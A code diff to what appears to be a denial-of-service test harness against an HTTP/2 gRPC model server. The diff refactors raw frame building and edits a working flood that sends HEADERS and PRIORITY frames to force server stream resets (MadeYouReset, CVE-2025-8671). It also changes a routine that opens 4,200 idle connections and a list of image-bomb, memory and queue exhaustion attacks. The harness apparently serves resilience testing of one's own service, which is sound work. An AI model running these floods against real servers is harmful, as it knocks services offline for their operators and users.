@@ -15,6 +15,8 @@ import hpack
 import image_bombs
 from target import Target
 
+from raw_frames import END_HEADERS, HEADERS, PREFACE, PRIORITY, SETTINGS, frame  # noqa: E402  `target` adds its folder
+
 MIB = 1 << 20
 QUESTION = "how many circles are in the image?"
 NUMBERS = itertools.count()
@@ -213,9 +215,6 @@ def endless_part_header(target):
 def protocol_error_resets(target):
     """Frames that make the server reset its own streams (MadeYouReset, CVE-2025-8671)."""
 
-    def frame(kind, flags, stream, payload):
-        return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
-
     # Sensitive headers enter no table, so each stream sends the same bytes.
     headers = hpack.Encoder().encode(
         hpack.NeverIndexedHeaderTuple(name, value)
@@ -231,15 +230,14 @@ def protocol_error_resets(target):
 
     def flood():
         connection = target.socket(target.grpc)
-        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
-        connection.settimeout(0.01)
+        connection.sendall(PREFACE + frame(SETTINGS, 0))
         for first in itertools.count(1, 200):
             if target.is_over:
                 return
             frames = b""
             for stream in range(first, first + 200, 2):
-                frames += frame(1, 4, stream, headers)
-                frames += frame(2, 0, stream, stream.to_bytes(4, "big") + b"\0")
+                frames += frame(HEADERS, stream, headers, END_HEADERS)
+                frames += frame(PRIORITY, stream, stream.to_bytes(4, "big") + b"\0")
             connection.settimeout(5)
             connection.sendall(frames)
             connection.settimeout(0.001)
@@ -257,14 +255,13 @@ def protocol_error_resets(target):
 
 def idle_connections(target):
     """4,200 connections that send the HTTP/2 preface and nothing more."""
-    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\4" + bytes(5)
     open_connections = []
     for _ in range(4200):
         if target.is_over:
             return
         try:
             connection = target.socket(target.grpc)
-            connection.sendall(preface)
+            connection.sendall(PREFACE + frame(SETTINGS, 0))
             open_connections.append(connection)
         except OSError:
             target.wait(0.01)
@@ -287,7 +284,7 @@ def half_requests_for_metrics(target):
 
 
 def full_queue(target):
-    """Two clients with eight calls of 1,024 questions each, answered with ten beams."""
+    """16 calls of 1,024 questions each, answered with ten beams."""
     # num_beams 10 and max_new_tokens 100
     generation = b"\x08\x0a\x10\x64"
 
@@ -316,8 +313,6 @@ class Attack:
     """An attack and the server that it is for."""
 
     run: Callable[[Target], None]
-    row: str
-    """The fault that it stands for, in one or two words."""
     needs_keys: bool = False
     """Whether the server has keys. The attacker has none."""
     honest: str = "image"
@@ -330,21 +325,21 @@ class Attack:
 
 
 ATTACKS = [
-    Attack(tiff_strips, "decode time"),
-    Attack(tiff_one_strip, "decode memory"),
-    Attack(hidden_scans, "decode time"),
-    Attack(many_codes, "decode memory"),
-    Attack(flat_images, "decode queue"),
-    Attack(progressive_images, "decode queue"),
-    Attack(unread_files, "response memory", needs_keys=True),
-    Attack(unread_vectors, "response memory"),
-    Attack(announced_messages, "request memory"),
-    Attack(bodies_without_key, "request memory", needs_keys=True),
-    Attack(long_json_key, "request memory", needs_keys=True),
-    Attack(endless_part_header, "processor time", needs_keys=True),
-    Attack(protocol_error_resets, "processor time", needs_keys=True),
-    Attack(idle_connections, "connections", needs_keys=True),
-    Attack(half_requests_for_metrics, "files", needs_keys=True, max_files=1024),
-    Attack(full_queue, "question queue"),
-    Attack(hanging_fetches, "fetch slots", honest="url"),
+    Attack(tiff_strips),
+    Attack(tiff_one_strip),
+    Attack(hidden_scans),
+    Attack(many_codes),
+    Attack(flat_images),
+    Attack(progressive_images),
+    Attack(unread_files, needs_keys=True),
+    Attack(unread_vectors),
+    Attack(announced_messages),
+    Attack(bodies_without_key, needs_keys=True),
+    Attack(long_json_key, needs_keys=True),
+    Attack(endless_part_header, needs_keys=True),
+    Attack(protocol_error_resets, needs_keys=True),
+    Attack(idle_connections, needs_keys=True),
+    Attack(half_requests_for_metrics, needs_keys=True, max_files=1024),
+    Attack(full_queue),
+    Attack(hanging_fetches, honest="url"),
 ]
